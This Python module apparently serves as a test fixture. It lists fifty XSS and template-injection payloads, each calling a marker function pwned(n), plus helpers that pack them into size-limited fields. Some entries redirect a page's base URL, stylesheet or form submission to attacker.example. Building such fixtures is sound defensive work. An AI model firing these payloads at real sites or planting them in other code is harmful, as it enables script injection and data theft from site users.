"""Fifty texts that would run as a script, or break out of where they stand, if anything let them.

Each calls `pwned(n)`, so a page that runs one tells which.
"""

_FORMS = (
    "<script>pwned({n})</script>",
    "<ScRiPt>pwned({n})</sCrIpT>",
    "</script><script>pwned({n})</script>",
    "</title><script>pwned({n})</script>",
    "</textarea><script>pwned({n})</script>",
    "</style><script>pwned({n})</script>",
    "--><script>pwned({n})</script>",
    "]]><script>pwned({n})</script>",
    "<img src=x onerror=pwned({n})>",
    "<img/src=x/onerror=pwned({n})>",
    '"><img src=x onerror=pwned({n})>',
    "'><img src=x onerror=pwned({n})>",
    "`><img src=x onerror=pwned({n})>",
    "<svg onload=pwned({n})>",
    "<svg><script>pwned({n})</script>",
    "<svg><animate onbegin=pwned({n}) attributeName=x>",
    "<math><mtext><script>pwned({n})</script>",
    "<body onload=pwned({n})>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'>",
    "<iframe src=javascript:parent.pwned({n})>",
    "<object data=javascript:pwned({n})>",
    "<embed src=javascript:pwned({n})>",
    "<a href=javascript:pwned({n})>x</a>",
    "javascript:pwned({n})",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned({n})'>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<style>@import '//attacker.example/x.css'</style>",
    "<form action=//attacker.example><button>x</button></form>",
    "<input autofocus onfocus=pwned({n})>",
    "<select autofocus onfocus=pwned({n})>",
    "<details open ontoggle=pwned({n})>",
    "<video><source onerror=pwned({n})>",
    "<audio src=x onerror=pwned({n})>",
    "<marquee onstart=pwned({n})>",
    '" autofocus onfocus="pwned({n})',
    "' autofocus onfocus='pwned({n})",
    '" onmouseover="pwned({n})" x="',
    "x onerror=pwned({n}) y",
    "{{{{constructor.constructor('pwned({n})')()}}}}",
    "${{pwned({n})}}",
    "{{% load x %}}{{{{ pwned({n}) }}}}",
    "';pwned({n});//",
    '";pwned({n});//',
    '\\";pwned({n});//',
    "&lt;script&gt;pwned({n})&lt;/script&gt;",
    "&#x3C;script&#x3E;pwned({n})&#x3C;/script&#x3E;",
    "\\u003cscript\\u003epwned({n})\\u003c/script\\u003e",
    "<div hx-get=/healthz hx-trigger=load hx-on::after-request=pwned({n})>",
    "<button popovertarget=x hx-on:click=pwned({n}) id=x>",
)
PAYLOADS = tuple(form.format(n=n) for n, form in enumerate(_FORMS))
PARTS = (PAYLOADS[:25], PAYLOADS[25:])


def piece(n: int, room: int) -> str:
    """A payload that fits: the n-th, or the next one that is short enough."""
    fitting = [each for each in PAYLOADS if len(each) <= room]
    return fitting[n % len(fitting)]


def many(room: int, begin: int = 0) -> str:
    """As many payloads as fit into a field, beginning with a given one."""
    text = ""
    for n in range(len(PAYLOADS)):
        each = PAYLOADS[(begin + n) % len(PAYLOADS)]
        if len(text) + len(each) <= room:
            text += each
    return text
